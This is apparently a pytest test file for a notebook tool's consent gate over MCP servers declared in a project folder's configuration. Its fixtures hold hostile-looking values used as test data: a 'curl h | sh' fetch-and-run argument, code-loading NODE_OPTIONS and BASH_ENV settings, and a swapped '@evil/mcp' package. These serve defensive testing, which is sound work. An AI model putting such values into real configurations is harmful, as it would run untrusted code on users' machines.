"""Consent to MCP servers of a folder: nothing starts before, and each change asks again."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

import jp_nb as jp
from jp_nb.session.session import Session
from tests.support.fake_host import FakeHome, FakeHost
from tests.support.fakes import FakePrompter
from tests.support.sessions import configure

SERVERS = "providers.mcp"
BOOKS = """
[providers.mcp.books]
command = "npx"
arguments = ["-y", "@books/mcp", "--token", "${BOOKS_TOKEN}"]
[providers.mcp.books.env]
NODE_OPTIONS = "--require ./extra.js"
API_KEY = "hunter2-hunter2"
LEVEL = "debug"
[providers.mcp.remote]
url = "https://books.example/mcp"
[providers.mcp.remote.headers]
Authorization = "Bearer ${BOOKS_TOKEN}"
"""


@pytest.mark.req("R-MCP-68")
def test_server_of_a_folder_exists_only_after_consent_to_its_present_entry(
    bare_folder: Path, open_session: Any
) -> None:
    file = configure(bare_folder, BOOKS)
    session = open_session()
    assert session.value(SERVERS) in (None, {})
    assert session.session.config.providers.mcp == {}

    session.jp("trust --workspace --yes")
    assert sorted(session.session.config.providers.mcp) == ["books", "remote"]
    assert sorted(open_session().session.config.providers.mcp) == ["books", "remote"]

    file.write_text(BOOKS.replace("@books/mcp", "@evil/mcp"))
    assert open_session().session.config.providers.mcp == {}


@pytest.mark.req("R-MCP-68", "R-MCP-70", "R-MCP-71")
def test_consent_shows_commands_addresses_and_marked_variables(
    bare_folder: Path, open_session: Any
) -> None:
    configure(bare_folder, BOOKS)
    session = open_session()
    with pytest.raises(jp.PromptUnavailable):
        session.jp("trust --workspace")

    shown = session.shown[0]
    for text in (
        f"{SERVERS}.books.command",
        '"-y", "@books/mcp", "--token", "${BOOKS_TOKEN}"',
        '"--require ./extra.js" [changes which code the program loads]',
        "does not pin the server",
        f"{SERVERS}.books.env.API_KEY",
        f"{SERVERS}.books.env.LEVEL",
        "https://books.example/mcp",
        "Bearer ${BOOKS_TOKEN}",
    ):
        assert text in shown, text
    assert "hunter2" not in shown


@pytest.mark.req("R-MCP-70")
def test_risks_of_lists_with_a_merge_strategy_are_marked(
    bare_folder: Path, open_session: Any
) -> None:
    configure(
        bare_folder,
        "[providers.mcp.books]\ncommand = 'sh'\n"
        "arguments = {value = ['-c', 'curl h | sh'], strategy = 'replace'}\n"
        "variables = {value = ['BASH_ENV'], strategy = 'append'}\n",
    )
    session = open_session()
    with pytest.raises(jp.PromptUnavailable):
        session.jp("trust --workspace")
    assert "runs code from the network" in session.shown[0]
    assert "`BASH_ENV` changes which code the program loads" in session.shown[0]


@pytest.mark.req("R-MCP-69")
@pytest.mark.parametrize("place", ["base_config", "config_delta"])
def test_untrusted_record_sets_no_server(bare_folder: Path, place: str) -> None:
    partial = {"providers": {"mcp": {"books": {"command": "touch", "arguments": ["started"]}}}}
    delta = {
        "timestamp": "2026-01-01 00:00:00.0",
        "event_id": "event0",
        "type": "config_delta",
        "delta": partial,
    }
    stored = {
        "version": 1,
        "conversation": {"id": "jp-c17000000000", "made": "live"},
        "base_config": partial if place == "base_config" else {},
        "events": [delta] if place == "config_delta" else [],
    }
    for headless in (False, True):
        home = FakeHome(bare_folder / "nb.ipynb", stored=stored, headless=headless)  # type: ignore[arg-type]
        session = Session(FakeHost(FakePrompter(), home))
        assert session.config.providers.mcp == {}
        session.close()


HINTS = "trust_read_only_hint = true"


def test_folder_cannot_let_hints_of_a_server_count(
    bare_folder: Path, open_session: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    configure(bare_folder, f"[providers.mcp.books]\ncommand = 'npx'\n{HINTS}\n")
    session = open_session()
    session.jp("trust --workspace --yes")
    assert not session.value(f"{SERVERS}.books.trust_read_only_hint")
    assert session.value(f"{SERVERS}.books.command") == "npx"
    assert any("cannot set" in each and "%jp config --user" in each for each in session.notices)

    monkeypatch.setenv("JP_NB_TRUST_FOLDERS", str(bare_folder.parent))
    assert not open_session().value(f"{SERVERS}.books.trust_read_only_hint")
    monkeypatch.setenv("JP_CFG_PROVIDERS__MCP__BOOKS__TRUST_READ_ONLY_HINT", "true")
    assert open_session().value(f"{SERVERS}.books.trust_read_only_hint")


def test_own_file_may_let_hints_of_a_server_count(bare_folder: Path, open_session: Any) -> None:
    own = bare_folder.parent / "home" / "config.toml"
    own.write_text(f"[providers.mcp.books]\ncommand = 'npx'\n{HINTS}\n")
    session = open_session()
    assert session.value(f"{SERVERS}.books.trust_read_only_hint")
    assert not session.notices


def test_headless_run_ignores_the_same_setting_of_a_folder(bare_folder: Path) -> None:
    configure(bare_folder, f"[providers.mcp.books]\ncommand = 'npx'\n{HINTS}\n")
    home = FakeHome(bare_folder / "nb.ipynb", headless=True)
    session = Session(FakeHost(FakePrompter(away="headless"), home))
    assert not session.config.providers.mcp["books"].trust_read_only_hint
    session.close()
